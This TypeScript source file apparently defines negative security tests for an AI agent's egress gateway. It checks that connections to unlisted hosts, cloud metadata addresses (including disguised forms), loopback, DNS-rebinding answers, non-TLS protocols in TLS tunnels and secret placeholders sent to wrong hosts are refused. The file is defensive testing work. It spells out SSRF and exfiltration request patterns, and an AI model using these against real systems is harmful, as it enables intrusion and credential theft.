import {
  type Drill,
  type DrillAttempt,
  type DrillMark,
  type DrillRange,
  NotApplicable,
  type Rehearsal,
  SetupFailed,
} from '../../kernel/index.ts';

/** A run's own way out, as a sandboxed run of this agent has it. */
export interface DrillRun {
  readonly id: string;
  /** Send bytes to the run's socket and return what comes until the other side is done with them. */
  exchange(bytes: string, until?: string): Promise<string>;
}

/** What drills of egress need besides what every drill has. */
export interface EgressRange extends DrillRange {
  /** Agents, the default one first. */
  readonly agents: readonly string[];
  openRun(agent: string, mark: DrillMark): Promise<DrillRun>;
  /** A run whose only host is the rehearsal's: egress does everything but dial. */
  rehearse(agent: string, mark: DrillMark, rehearsal: Rehearsal): Promise<DrillRun>;
  /** Something that reads as the placeholder of a secret, and is none. */
  placeholder(mark: DrillMark): string;
}

/** A host that no rule of the drill's agent names: `.invalid` never exists (RFC 6761). */
const hostOf = ({ id }: DrillMark) => `${id}.drill.invalid`;

const common = { event: 'net.connect', alert: { rule: 'egress.spike' } } as const;

function refusalIn(answer: string): DrillAttempt['refusal'] {
  const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1] ?? 0);
  if (status >= 200 && status < 300) return undefined;
  return { code: /\b(EGRESS_[A-Z_]+)\b/.exec(answer)?.[1] ?? '' };
}

function connectTo(authority: string): string {
  return `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
}

/** Each of these through a run of its own. */
async function each(
  range: EgressRange,
  requests: readonly (readonly [what: string, bytes: (mark: DrillMark) => string])[],
): Promise<readonly DrillAttempt[]> {
  const [agent] = range.agents;
  if (agent === undefined) throw new NotApplicable('no agent is configured');
  const attempts: DrillAttempt[] = [];
  for (const [what, bytes] of requests) {
    const mark = range.mark();
    const run = await range.openRun(agent, mark);
    const at = range.now();
    const again = () => run.exchange(bytes(mark), '\r\n\r\n');
    const refusal = refusalIn(await again());
    // Egress is another process: its alert is seen when its record is looked for, not while these go out.
    if (refusal !== undefined) await range.untilAlert(mark, again, { names: [run.id], most: 30 });
    attempts.push({
      tried: `${what} by a run of ${agent}`,
      mark,
      at,
      refusal,
      names: [run.id],
    });
  }
  return attempts;
}

/** Public addresses to the check; a drill dials none. */
const PUBLIC = '93.184.215.14';

/** What is said when nothing refused it: it would have been dialled. */
const ADMITTED = 'EGRESS_REHEARSAL_ENDS';

interface Rehearsed {
  readonly tried: string;
  readonly answers: Rehearsal['answers'];
  readonly bytes: (host: string, mark: DrillMark) => string;
  /** What egress does with a tunnel that it had answered already is seen in its record alone. */
  readonly inTunnel?: { readonly code: string };
}

/** Each through a run of its own, with a name server that is the attacker's. */
async function rehearsed(
  range: EgressRange,
  attacks: readonly Rehearsed[],
): Promise<readonly DrillAttempt[]> {
  const [agent] = range.agents;
  if (agent === undefined) throw new NotApplicable('no agent is configured');
  const attempts: DrillAttempt[] = [];
  for (const { tried, answers, bytes, inTunnel } of attacks) {
    const mark = range.mark();
    const host = hostOf(mark);
    const run = await range.rehearse(agent, mark, { host, answers: [[PUBLIC], ...answers] });
    // Admitted as far as the dial: what follows is refused for what it is and not for its host.
    const honest = codeIn(await run.exchange(getFrom(host), '\r\n\r\n'));
    if (honest !== ADMITTED)
      throw new SetupFailed(`the honest request was not admitted: ${honest || 'no code'}`);
    const at = range.now();
    const again = async () => {
      const answer = await run.exchange(bytes(host, mark), inTunnel === undefined ? '\r\n\r\n' : undefined);
      return inTunnel !== undefined && / 200 /.test(answer) ? inTunnel.code : codeIn(answer);
    };
    const code = await again();
    const refusal = code === ADMITTED ? undefined : { code };
    if (refusal !== undefined) await range.untilAlert(mark, again, { names: [run.id], most: 30 });
    attempts.push({ tried: `${tried} by a run of ${agent}`, mark, at, refusal, names: [run.id] });
  }
  return attempts;
}

const codeIn = (answer: string): string => /\b(EGRESS_[A-Z_]+)\b/.exec(answer)?.[1] ?? '';

const getFrom = (host: string, header = '') =>
  `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n${header}\r\n`;

/** Negative tests of where anything may connect (E1 to E4), through the socket that a run has. */
export const EGRESS_DRILLS: readonly Drill<EgressRange>[] = [
  {
    ...common,
    id: 'egress.host-without-rule',
    title: 'a connection to a host that no rule names, as a tunnel and in the clear',
    requirements: ['E1'],
    attacks: [90],
    codes: ['EGRESS_HOST_NOT_ALLOWED', 'EGRESS_HOST_DENIED', 'EGRESS_HOST_ASK'],
    rule: 'networkPolicy and the playbook',
    run: (range) =>
      each(range, [
        ['CONNECT to a host without a rule', (mark) => connectTo(`${hostOf(mark)}:443`)],
        [
          'GET http:// to a host without a rule',
          (mark) => `GET http://${hostOf(mark)}/ HTTP/1.1\r\nHost: ${hostOf(mark)}\r\n\r\n`,
        ],
      ]),
  },
  {
    ...common,
    id: 'egress.metadata-service',
    title: 'a connection to the metadata service of a cloud, also in disguise',
    requirements: ['E3'],
    attacks: [1, 9, 10, 13],
    codes: [
      'EGRESS_ADDRESS_NOT_PUBLIC',
      'EGRESS_HOST_NOT_ALLOWED',
      'EGRESS_HOST_DENIED',
      'EGRESS_HOST_AMBIGUOUS',
      'EGRESS_HOST_INVALID',
      'EGRESS_HOST_LOCAL',
    ],
    rule: 'addresses that are not public',
    run: (range) =>
      each(range, [
        ['CONNECT 169.254.169.254:80', () => connectTo('169.254.169.254:80')],
        ['CONNECT 2852039166:80, the same in decimal', () => connectTo('2852039166:80')],
        ['CONNECT [::ffff:169.254.169.254]:80', () => connectTo('[::ffff:169.254.169.254]:80')],
        ['CONNECT metadata.google.internal:80', () => connectTo('metadata.google.internal:80')],
      ]),
  },
  {
    ...common,
    id: 'egress.loopback',
    title: 'a connection back to this machine, and to the gateway itself',
    requirements: ['E3'],
    attacks: [13, 14, 54],
    codes: [
      'EGRESS_ADDRESS_NOT_PUBLIC',
      'EGRESS_HOST_NOT_ALLOWED',
      'EGRESS_HOST_DENIED',
      'EGRESS_HOST_LOCAL',
      'EGRESS_LOOP',
    ],
    rule: 'addresses that are not public',
    run: (range) => {
      const port = range.targets.find(({ plane }) => plane === 'users')?.port ?? 18_789;
      return each(range, [
        [`CONNECT 127.0.0.1:${port}`, () => connectTo(`127.0.0.1:${port}`)],
        [`CONNECT localhost:${port}`, () => connectTo(`localhost:${port}`)],
      ]);
    },
  },
  {
    ...common,
    id: 'egress.two-hosts',
    title: 'a tunnel whose Host header names another host than its target',
    requirements: ['E4'],
    attacks: [23, 24],
    codes: ['EGRESS_HOST_MISMATCH'],
    rule: 'one host per request',
    run: (range) =>
      each(range, [
        [
          'CONNECT to one host with the Host header of another',
          (mark) => `CONNECT ${hostOf(mark)}:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n`,
        ],
      ]),
  },
  {
    ...common,
    id: 'egress.rebinding',
    title: 'a host that a rule allows, whose second answer leads into private space',
    requirements: ['E3'],
    attacks: [15, 16, 17],
    codes: ['EGRESS_ADDRESS_NOT_PUBLIC'],
    rule: 'the whole answer is checked, each time',
    run: (range) =>
      rehearsed(range, [
        {
          tried: 'a second answer that is 127.0.0.1',
          answers: [['127.0.0.1']],
          bytes: (host) => getFrom(host),
        },
        {
          tried: 'a tunnel after an answer that is the metadata service',
          answers: [['169.254.169.254']],
          bytes: (host) => connectTo(`${host}:443`),
        },
        {
          tried: 'an answer with a public and a private address',
          answers: [[PUBLIC, '10.0.0.1']],
          bytes: (host) => getFrom(host),
        },
      ]),
  },
  {
    ...common,
    id: 'egress.not-tls',
    title: 'something else than TLS in a tunnel that a rule allows for TLS',
    requirements: ['E4'],
    attacks: [40, 44],
    codes: ['EGRESS_NOT_TLS'],
    rule: 'TLS tunnels carry TLS',
    run: (range) =>
      rehearsed(
        range,
        [
          ['SSH', 'SSH-2.0-drill\r\n'],
          ['HTTP in the clear', 'GET / HTTP/1.1\r\n\r\n'],
          ['SOCKS', '\x05\x01\x00'],
        ].map(([what = '', first = '']) => ({
          tried: `${what} inside a tunnel to port 443`,
          answers: [],
          bytes: (host: string) => `${connectTo(`${host}:443`)}${first}`,
          inTunnel: { code: 'EGRESS_NOT_TLS' },
        })),
      ),
  },
  {
    ...common,
    alert: { rule: 'secrets.misuse' },
    id: 'egress.secret-to-wrong-host',
    title: 'the placeholder of a secret, sent to a host that it is not bound to',
    requirements: ['E6', 'K2'],
    attacks: [84],
    codes: ['EGRESS_SECRET_IN_CLEAR', 'SECRET_WRONG_HOST', 'SECRET_UNKNOWN'],
    rule: 'secrets go to the host that they are bound to',
    run: (range) =>
      rehearsed(range, [
        {
          tried: 'a placeholder as Bearer',
          answers: [],
          bytes: (host, mark) => getFrom(host, `Authorization: Bearer ${range.placeholder(mark)}\r\n`),
        },
        {
          tried: 'a placeholder in the address',
          answers: [],
          bytes: (host, mark) =>
            `GET http://${host}/?key=${range.placeholder(mark)} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
        },
      ]),
  },
];
